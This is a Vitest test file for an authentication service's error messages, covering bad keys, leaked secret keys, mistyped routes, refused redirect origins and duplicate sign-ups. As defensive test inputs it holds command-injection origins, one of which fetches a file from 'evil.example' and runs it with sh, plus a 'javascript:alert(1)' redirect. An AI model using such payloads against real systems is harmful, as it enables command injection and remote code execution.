/**
 * Answers that say what to do, as a newcomer meets them in the first hour: a key copied
 * wrong, a secret key in a browser, a refused hosted link, a mistyped route or method, a
 * duplicate sign-up (docs/design.md §4.2, §4.3, §6.1).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaults } from '../src/config/defaults.js';
import { createKey } from '../src/modules/keys/index.js';
import { checkOrigin } from '../src/modules/tenants/index.js';
import { DIALECTS, email, json, startApp, type TestApp, type TestTenant } from './support.js';

const ORIGIN = 'http://localhost:5173';
const PASSWORD = 'correct horse battery staple';
const SECRET_FORM =
  'A secret key is sk_test_ (development tenants) or sk_prod_ (production) followed by 43 letters and digits; create one with `latchkey keys create --tenant TENANT_ID`, or in the admin area under API Keys.';
const PUBLISHABLE_FORM =
  'A publishable key is pk_test_ (development tenants) or pk_live_ (production) followed by 43 letters and digits';

/** The visible text of a page: tags dropped, entities of the escaper undone, spaces folded. */
function textOf(page: string): string {
  return page
    .replace(/<style[\s\S]*?<\/style>/g, '')
    .replace(/<[^>]+>/g, ' ')
    .replaceAll('&#39;', "'")
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
    .replace(/\s+/g, ' ');
}

describe.each(DIALECTS)('answers that say what to do on %s', (dialect) => {
  let app: TestApp;
  let dev: TestTenant;
  let prod: TestTenant;

  beforeAll(async () => {
    app = await startApp(dialect);
    dev = await app.tenant({ allowedOrigins: [ORIGIN] });
    prod = await app.tenant({
      environment: 'production',
      allowedOrigins: ['https://app.example.com'],
    });
  });
  afterAll(() => app.dispose());

  const signUp = (authorization: string | undefined, headers: Record<string, string> = {}) =>
    app.request('/v1/auth/sign-up', {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        ...(authorization === undefined ? {} : { authorization }),
        ...headers,
      },
      body: JSON.stringify({ email: email(), password: PASSWORD }),
    });

  async function problem(res: Response, status: number, code: string) {
    expect(res.status).toBe(status);
    expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const body = await json(res);
    expect(body).toMatchObject({ status, code });
    return body as { detail: string };
  }

  describe('a wrong secret key says what a key looks like and where to make one', () => {
    it.for([
      ['nothing', undefined, 'Send a secret key as Authorization: Bearer sk_...'],
      ['an empty string', 'Bearer ', 'Send a secret key as Authorization: Bearer sk_...'],
      [
        'the docs placeholder sk_test_…, as curl sends it (UTF-8 bytes)',
        `Bearer sk_test_${Buffer.from('…').toString('latin1')}`,
        'This is a placeholder from an example, not a key',
      ],
      ['sk_test_xxx', 'Bearer sk_test_xxx', 'This is a placeholder from an example, not a key'],
      ['a cut-off key', 'CUT', 'This is not a whole key (wrong length or characters)'],
      ['a tenant id', 'TENANT', 'This is a tenant id, not a key'],
      [
        'an unknown key',
        `Bearer sk_test_${'A'.repeat(43)}`,
        'The key is not valid or has been revoked',
      ],
    ] as const)('%s', async ([_name, header, first]) => {
      const value =
        header === 'CUT'
          ? `Bearer ${dev.secretKey.slice(0, -3)}`
          : header === 'TENANT'
            ? `Bearer ${dev.tenant.id}`
            : header;
      const body = await problem(await signUp(value), 401, 'unauthorized');
      expect(body.detail).toBe(`${first}. ${SECRET_FORM}`);
      // It never echoes what was sent.
      if (header === 'CUT') expect(JSON.stringify(body)).not.toContain(dev.secretKey.slice(8, -3));
    });
  });

  it('a wrong publishable key says what one looks like and where to find it', async () => {
    for (const [pk, first] of [
      ['', 'Send the publishable key as ?pk= or X-Latchkey-Publishable-Key'],
      ['pk_test_…', 'This is a placeholder from an example, not a key'],
      [dev.tenant.id, 'This is a tenant id, not a key'],
      [`pk_test_${'B'.repeat(43)}`, 'The publishable key is not valid or has been revoked'],
    ] as const) {
      // As a link or a script tag carries it: ?pk=
      const res = await app.request(`/public/config${pk ? `?${new URLSearchParams({ pk })}` : ''}`);
      const body = await problem(res, 401, 'unauthorized');
      expect(body.detail).toMatch(new RegExp(`^${first.replace(/[.?…]/g, '\\$&')}\\. `));
      expect(body.detail).toContain(PUBLISHABLE_FORM);
      expect(body.detail).toContain('`latchkey keys list --tenant TENANT_ID`');
    }
  });

  it('unknown secret keys sent as a publishable key cost the failed-key budget, like any wrong key', async () => {
    // Its own app: the budget is per client address, and this test spends it all.
    const own = await startApp(dialect);
    try {
      const statuses: number[] = [];
      for (let i = 0; i <= defaults.unauthenticatedPerMinute; i++) {
        const res = await own.request('/public/config', {
          headers: { 'x-latchkey-publishable-key': `sk_test_${'x'.repeat(40)}${i}` },
        });
        statuses.push(res.status);
      }
      expect(statuses.slice(0, -1).every((s) => s === 403)).toBe(true);
      expect(statuses.at(-1)).toBe(429);
    } finally {
      await own.dispose();
    }
  });

  it('a secret key sent from a browser: exposed, how to revoke it, which key to use', async () => {
    const leaked = await createKey(app.ctx.database.db, dev.tenant.id, { kind: 'secret' });
    const revoke = `\`latchkey keys revoke --tenant ${dev.tenant.id} ${leaked.key.id}\``;
    // As the publishable key of a browser endpoint.
    const asPublishable = await problem(
      await app.request('/public/config', {
        headers: { 'x-latchkey-publishable-key': leaked.plaintext },
      }),
      403,
      'forbidden',
    );
    expect(asPublishable.detail).toContain(
      'is a secret key (sk_...), which must never reach a browser',
    );
    expect(asPublishable.detail).toContain(`Treat it as exposed: revoke it (${revoke}`);
    expect(asPublishable.detail).toContain(
      "use the tenant's publishable key (pk_test_... / pk_live_...)",
    );
    expect(JSON.stringify(asPublishable)).not.toContain(leaked.plaintext);
    // On the secret API from a page: the request has an Origin; nothing is done.
    const fromPage = await problem(
      await signUp(`Bearer ${leaked.plaintext}`, { origin: ORIGIN }),
      403,
      'forbidden',
    );
    expect(fromPage.detail).toContain(`it has an Origin header, ${ORIGIN}`);
    expect(fromPage.detail).toContain(revoke);
    // Introspection too, on its fast path's ground (a well-formed call with a cached key).
    const introspect = (headers: Record<string, string>) =>
      app.request('/api/auth/introspect', {
        method: 'POST',
        headers: {
          authorization: `Bearer ${leaked.plaintext}`,
          'content-type': 'application/json',
          ...headers,
        },
        body: JSON.stringify({ token: 'x' }),
      });
    expect((await introspect({})).status).toBe(200);
    await problem(await introspect({ origin: ORIGIN }), 403, 'forbidden');
    // The page's preflight is let through, so that it reads the refusal, not a CORS error.
    const preflight = await app.request('/v1/auth/sign-up', {
      method: 'OPTIONS',
      headers: {
        origin: ORIGIN,
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization,content-type',
      },
    });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get('access-control-allow-origin')).toBe(ORIGIN);
    expect(preflight.headers.get('access-control-allow-headers')).toBe(
      'authorization, content-type',
    );
    // The same key from a server (no Origin) works.
    expect((await signUp(`Bearer ${leaked.plaintext}`)).status).toBe(201);
  });

  describe('routes', () => {
    it.for([
      ['GET', '/v1/auth/sign-up', 'POST'],
      ['PUT', '/v1/users', 'GET, HEAD'],
      ['POST', '/public/config', 'GET, HEAD, OPTIONS'],
    ] as const)('%s %s: 405 method_not_allowed with Allow: %s', async ([method, path, allow]) => {
      const res = await app.request(path, { method });
      const body = await problem(res, 405, 'method_not_allowed');
      expect(res.headers.get('allow')).toBe(allow);
      expect(body.detail).toBe(`${path} answers ${allow}, not ${method}`);
    });

    it.for([
      ['/v1/auth/signup', '/v1/auth/sign-up'],
      ['/v1/auth/sign_up', '/v1/auth/sign-up'],
      ['/auth/sign-up', '/v1/auth/sign-up'],
      ['/v1/auth/sign-up/', '/v1/auth/sign-up'],
      ['/v1/auth/signin', '/v1/auth/sign-in'],
    ] as const)('POST %s: 404 that names %s', async ([path, near]) => {
      const body = await problem(await app.request(path, { method: 'POST' }), 404, 'not_found');
      expect(body.detail).toBe(`No route for POST ${path}; did you mean ${near}?`);
    });

    it('a path far from every route is a plain 404', async () => {
      for (const path of [
        '/v1/nothing-here',
        '/x',
        '/wp-admin/setup-config.php',
        `/v1/${'a'.repeat(4000)}`,
      ]) {
        const body = await problem(await app.request(path), 404, 'not_found');
        expect(body.detail).toBe(`No route for GET ${path}`);
      }
    });
  });

  describe('a refused hosted link', () => {
    const link = (t: TestTenant, redirect: string, pk = t.publishableKey) =>
      `/sign-in?${new URLSearchParams({ pk, redirect_url: redirect })}`;

    it('an origin not allowed, on a development tenant: its name, the way back, how to allow it', async () => {
      const res = await app.request(link(dev, 'https://staging.example.com/callback'), {
        headers: { referer: 'https://staging.example.com/' },
      });
      expect(res.status).toBe(400);
      const page = await res.text();
      const text = textOf(page);
      expect(text).toContain(dev.tenant.name);
      expect(text).toContain(
        `https://staging.example.com is not an allowed origin of ${dev.tenant.name}, so this page cannot return there.`,
      );
      expect(text).toContain(
        `latchkey tenant update ${dev.tenant.id} --add-origin https://staging.example.com`,
      );
      expect(page).toContain(`href="${app.url}/admin/tenants/${dev.tenant.id}"`);
      expect(page).toMatch(
        /<a href="https:\/\/staging\.example\.com\/">Go back to staging\.example\.com<\/a>/,
      );
    });

    it.for([
      ['https://a;id;.example.com/cb'],
      ['https://a`id`b.example.com/cb'],
      ['https://x&&id.example.com/cb'],
      ['https://$({curl,-so,x,evil.example})$({sh,x}).y/cb'],
    ] as const)(
      'an origin no DNS name can have (%s): no command to paste into a shell, on a development tenant either',
      async ([redirect]) => {
        const res = await app.request(link(dev, redirect));
        expect(res.status).toBe(400);
        const page = await res.text();
        expect(textOf(page)).toContain(`is not an allowed origin of ${dev.tenant.name}`);
        expect(page).not.toContain('latchkey tenant update');
      },
    );

    it('the CLI and the admin area refuse such an origin too', async () => {
      for (const origin of ['https://a;id;.example.com', 'http://x&&id.localhost:3000']) {
        expect(checkOrigin(origin, 'development')).toMatch(/not a DNS name or an IP address/);
      }
      expect(checkOrigin('https://my_app.example.com', 'development')).toBeNull();
      expect(checkOrigin('https://[::1]:8443', 'development')).toBeNull();
    });

    it('an origin not allowed, on a production tenant: no command, no admin link', async () => {
      const res = await app.request(link(prod, 'https://evil.example.com/cb'));
      expect(res.status).toBe(400);
      const page = await res.text();
      expect(textOf(page)).toContain(
        `https://evil.example.com is not an allowed origin of ${prod.tenant.name}`,
      );
      expect(page).not.toContain('latchkey tenant');
      expect(page).not.toContain('/admin');
      expect(textOf(page)).toContain("Use your browser's Back button to return.");
    });

    it.for([
      ['javascript:alert(1)'],
      ['data:text/html,hi'],
      ['ftp://localhost/x'],
      ['http://evil.example/cb'],
    ] as const)(
      'redirect_url=%s on a development tenant: only http(s) URLs, http://localhost is fine',
      async ([redirect]) => {
        const text = textOf(await (await app.request(link(dev, redirect))).text());
        expect(text).toContain(
          'The return address (redirect_url) must be an https:// URL, or http://localhost (or 127.0.0.1) on this development tenant.',
        );
        expect(text).not.toMatch(/https only/i);
      },
    );

    it('a secret key as pk: exposed, how to revoke it, use the publishable key', async () => {
      const leaked = await createKey(app.ctx.database.db, dev.tenant.id, { kind: 'secret' });
      const res = await app.request(link(dev, `${ORIGIN}/cb`, leaked.plaintext));
      expect(res.status).toBe(400);
      const text = textOf(await res.text());
      expect(text).toContain(
        'The key in this link (pk) is a secret key (sk_...), which must never reach a browser.',
      );
      expect(text).toContain(`latchkey keys revoke --tenant ${dev.tenant.id} ${leaked.key.id}`);
      expect(text).toContain("use the tenant's publishable key");
      expect(text).not.toContain(leaked.plaintext);
    });
  });

  it('a duplicate hosted sign-up without verification: true words, the outbox, a way to sign in', async () => {
    const address = email();
    const form = async () => {
      const path = `/sign-up?${new URLSearchParams({ pk: dev.publishableKey, redirect_url: `${ORIGIN}/cb` })}`;
      const page = await app.request(path);
      const cookie = page.headers
        .getSetCookie()
        .map((c) => c.split(';')[0])
        .join('; ');
      const csrf = /name="_csrf" value="([^"]+)"/.exec(await page.text())?.[1] as string;
      return app.request(path, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'content-type': 'application/x-www-form-urlencoded', cookie },
        body: new URLSearchParams({ _csrf: csrf, email: address, password: PASSWORD }).toString(),
      });
    };
    expect((await form()).status).toBe(303);
    const again = await form();
    expect(again.status).toBe(201);
    const page = await again.text();
    const text = textOf(page);
    expect(text).toContain(
      `We are sending a message about this sign-up to ${address}: follow its link to go on.`,
    );
    expect(text).not.toMatch(/verify/i);
    expect(text).toContain(`it is kept in the dev outbox, ${app.url}/admin/outbox`);
    expect(page).toMatch(/<a href="\/sign-in\?pk=[^"]+">Sign in<\/a>/);
  });
});
